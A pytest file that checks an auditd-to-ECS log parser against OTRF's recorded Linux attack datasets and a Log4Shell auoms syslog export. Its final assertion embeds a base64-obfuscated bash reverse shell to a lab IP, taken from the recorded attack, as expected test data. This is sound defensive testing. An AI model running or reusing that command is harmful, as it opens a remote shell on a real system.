"""auditd records → ECS, on OTRF's recorded Linux attacks and the Log4Shell auoms export."""

from __future__ import annotations

import json
import re
from collections import defaultdict
from datetime import UTC, datetime
from pathlib import Path

import pytest

from collectors.base import ParseError
from collectors.ecs.auditd import parse_audit_line
from collectors.ecs.syslog import parse_syslog_message


def _otrf_audit_logs(shared_data: Path) -> list[Path]:
    logs = sorted((shared_data / "otrf-security-datasets" / "datasets" / "atomic" / "linux").rglob("*.log"))
    assert logs, "OTRF Linux audit logs missing"
    return logs


def test_every_otrf_audit_record_parses_and_keeps_every_key(shared_data: Path) -> None:
    records = 0
    for path in _otrf_audit_logs(shared_data):
        with path.open(encoding="utf-8") as lines:
            for number, line in enumerate(lines, 1):
                line = line.rstrip("\n")
                mapped = parse_audit_line(line)
                records += 1
                log = mapped.fields["auditd"]["log"]
                # every key=value of the line, read with a plain split (none of these values has a blank)
                keys = {token.split("=", 1)[0] for token in line.split(": ", 1)[1].split(" ")}
                kept = {key for key in keys if not line.split(f" {key}=", 1)[-1].startswith("(null)")}
                assert kept <= set(log), f"{path.name}:{number}: lost {kept - set(log)}"
                assert (mapped.module, mapped.dataset) == ("auditd", "auditd.log")
                assert mapped.fields["event"]["action"] == line.split(" ", 1)[0].removeprefix("type=").lower()
    assert records == 18  # 6 + 12 lines (wc -l)


def test_otrf_dd_padding_record_group(shared_data: Path) -> None:
    """sh_binary_padding_dd: 'dd if=/dev/zero bs=1 count=1' run by uid 1000 from bash (ppid 29002)."""
    path = next(p for p in _otrf_audit_logs(shared_data) if "binary_padding_dd" in p.name)
    with path.open(encoding="utf-8") as lines:
        mapped = [parse_audit_line(line) for line in lines]
    by_type = {m.fields["auditd"]["log"]["record_type"]: m for m in mapped}
    syscall = by_type["SYSCALL"].fields
    assert syscall["event"] == {"action": "syscall", "category": ["process"], "type": ["start"], "outcome": "success"}
    assert syscall["process"] == {"pid": 2168, "parent": {"pid": 29002}, "executable": "/bin/dd", "name": "dd"}
    assert syscall["user"]["id"] == "1000" and syscall["user"]["audit"]["id"] == "1000"
    assert syscall["host"] == {"architecture": "x86_64"}
    # PROCTITLE is hex in the file; decoded it must equal the EXECVE arguments of the same event
    assert by_type["PROCTITLE"].fields["process"]["title"] == "dd if=/dev/zero bs=1 count=1"
    assert by_type["EXECVE"].fields["process"]["args"] == ["dd", "if=/dev/zero", "bs=1", "count=1"]
    assert by_type["CWD"].fields["process"]["working_directory"] == "/home/wardog"
    # one event, one serial, one time: msg=audit(1604996384.965:93777)
    assert {m.fields["auditd"]["log"]["sequence"] for m in mapped} == {93777}
    assert {m.timestamp for m in mapped} == {datetime(2020, 11, 10, 8, 19, 44, 965000, tzinfo=UTC)}
    assert [m.fields["file"]["path"] for m in mapped if "file" in m.fields] == ["/bin/dd",
                                                                                "/lib64/ld-linux-x86-64.so.2"]


def test_proctitle_equals_execve_arguments_in_every_otrf_event(shared_data: Path) -> None:
    titles: dict[int, str] = {}
    args: dict[int, str] = {}
    for path in _otrf_audit_logs(shared_data):
        with path.open(encoding="utf-8") as lines:
            for line in lines:
                mapped = parse_audit_line(line)
                serial = mapped.fields["auditd"]["log"]["sequence"]
                process = mapped.fields.get("process", {})
                if "title" in process:
                    titles[serial] = process["title"]
                if "args" in process:
                    args[serial] = " ".join(process["args"])
    assert titles == args and len(titles) == 3


def test_hex_encoded_values_and_nested_msg() -> None:
    cwd = "/home/john doe"
    exe = '/tmp/my "tool"'
    line = (f"type=SYSCALL msg=audit(1700000000.5:42): arch=c000003e syscall=59 success=no exit=-13 ppid=1 pid=4242 "
            f"auid=4294967295 uid=0 comm={exe.encode().hex().upper()} exe={exe.encode().hex().upper()} key=\"x\"")
    mapped = parse_audit_line(line)
    assert mapped.fields["process"]["executable"] == exe
    assert mapped.fields["event"]["outcome"] == "failure"
    assert mapped.timestamp == datetime(2023, 11, 14, 22, 13, 20, 500000, tzinfo=UTC)
    cwd_record = parse_audit_line(f"type=CWD msg=audit(1700000000.5:42): cwd={cwd.encode().hex()}")
    assert cwd_record.fields["process"]["working_directory"] == cwd
    # a value that merely looks like hex is left alone where auditd never encodes (syscall arguments)
    assert mapped.fields["auditd"]["log"]["exit"] == "-13"
    login = parse_audit_line(
        "type=USER_LOGIN msg=audit(1700000001.250:77): pid=900 uid=0 auid=4294967295 ses=4294967295 "
        "msg='op=login acct=\"root\" exe=\"/usr/sbin/sshd\" hostname=? addr=198.51.100.23 terminal=sshd res=failed'")
    assert login.fields["event"] == {"action": "user_login", "category": ["authentication"], "type": ["start"],
                                     "outcome": "failure"}
    assert login.fields["user"]["name"] == "root"
    assert login.fields["source"] == {"address": "198.51.100.23", "ip": "198.51.100.23"}
    assert login.fields["auditd"]["log"]["op"] == "login" and "hostname" not in login.fields["auditd"]["log"]


def test_enriched_format_and_node_prefix() -> None:
    line = ('node=web01 type=SYSCALL msg=audit(1604996384.965:93777): arch=c000003e syscall=59 success=yes exit=0 '
            'ppid=29002 pid=2168 auid=1000 uid=1000 comm="dd" exe="/bin/dd" key=(null)'
            '\x1dARCH=x86_64 SYSCALL=execve AUID="wardog" UID="wardog"')
    mapped = parse_audit_line(line)
    assert mapped.fields["host"] == {"hostname": "web01", "architecture": "x86_64"}
    assert mapped.fields["user"]["name"] == "wardog" and mapped.fields["user"]["audit"] == {"id": "1000",
                                                                                            "name": "wardog"}
    assert "key" not in mapped.fields["auditd"]["log"]  # (null) means unset


@pytest.mark.parametrize("line", ["", "type=SYSCALL arch=c000003e", "msg=audit(1:2): x=y", "hello",
                                  "type=SYSCALL msg=audit(abc:1): x=y"])
def test_non_audit_lines_raise_with_what_was_expected(line: str) -> None:
    with pytest.raises(ParseError, match=r"expected 'type=TYPE msg=audit\(SECONDS.MILLIS:SERIAL\)"):
        parse_audit_line(line)


def test_log4shell_auoms_records_over_syslog(shared_data: Path) -> None:
    """Microsoft's auoms sent these over syslog (Sentinel kept Facility, HostName, ProcessName and the
    message): rebuilt as the RFC 3164 datagrams they were, they must come out as auditd events."""
    path = (shared_data / "otrf-security-datasets" / "datasets" / "compound" / "Log4Shell" /
            "syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json")
    if not path.exists():
        pytest.skip("Log4Shell compound dataset not present")
    facilities = {"user": 1, "auth": 4, "authpriv": 10, "daemon": 3, "local0": 16}
    severities = {"info": 6, "notice": 5, "warning": 4, "err": 3}
    by_pid: dict[str, list[str]] = defaultdict(list)
    count = 0
    with path.open(encoding="utf-8") as lines:
        for line in lines:
            record = json.loads(line)
            sent = datetime.fromisoformat(record["EventTime"].replace("Z", "+00:00"))
            priority = facilities[record["Facility"]] * 8 + severities[record["SeverityLevel"]]
            datagram = (f"<{priority}>{sent:%b} {sent.day:2d} {sent:%H:%M:%S} {record['HostName']} "
                        f"{record['ProcessName']}: {record['SyslogMessage']}").encode()
            mapped = parse_syslog_message(datagram, now=sent, peer=record["HostIP"] + ":514")
            count += 1
            fields = mapped.fields
            assert (mapped.module, mapped.dataset) == ("auditd", "auditd.log")
            assert fields["event"]["action"] == record["EventType"].lower()
            assert fields["host"]["hostname"] == record["Computer"]
            # the record's own time (audit(1652292621.986:...)), within a second of Sentinel's receipt time
            assert abs((mapped.timestamp - sent).total_seconds()) < 1
            pid = re.search(r" pid=(\d+)", record["EventData"]).group(1)  # type: ignore[union-attr]
            ppid = re.search(r" ppid=(\d+)", record["EventData"]).group(1)  # type: ignore[union-attr]
            assert fields["process"]["pid"] == int(pid) and fields["process"]["parent"]["pid"] == int(ppid)
            exe = re.search(r' exe="([^"]*)"', record["EventData"]).group(1)  # type: ignore[union-attr]
            assert fields["process"]["executable"] == exe
            cmdline = re.search(r' cmdline="(.*)" redactors=', record["EventData"])  # quotes inside: unescaped
            if cmdline:
                assert fields["process"]["command_line"] == cmdline.group(1)
            assert fields["auditd"]["log"]["path_name"] == json.loads(
                re.search(r" path_name=(\[[^\]]*\])", record["EventData"]).group(1))  # type: ignore[union-attr]
            assert fields["log"]["syslog"]["facility"]["name"] == record["Facility"]
            assert fields["log"]["source"]["address"] == "192.168.2.5:514"
            by_pid[pid].append(fields["process"].get("command_line", ""))
    assert count == 50
    # the attack: tomcat's java (CVE-2021-44228) spawning shells; auoms saw the commands it ran
    commands = [c for cs in by_pid.values() for c in cs]
    reverse_shell = "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}"
    assert f'bash -c "{reverse_shell}"' in commands
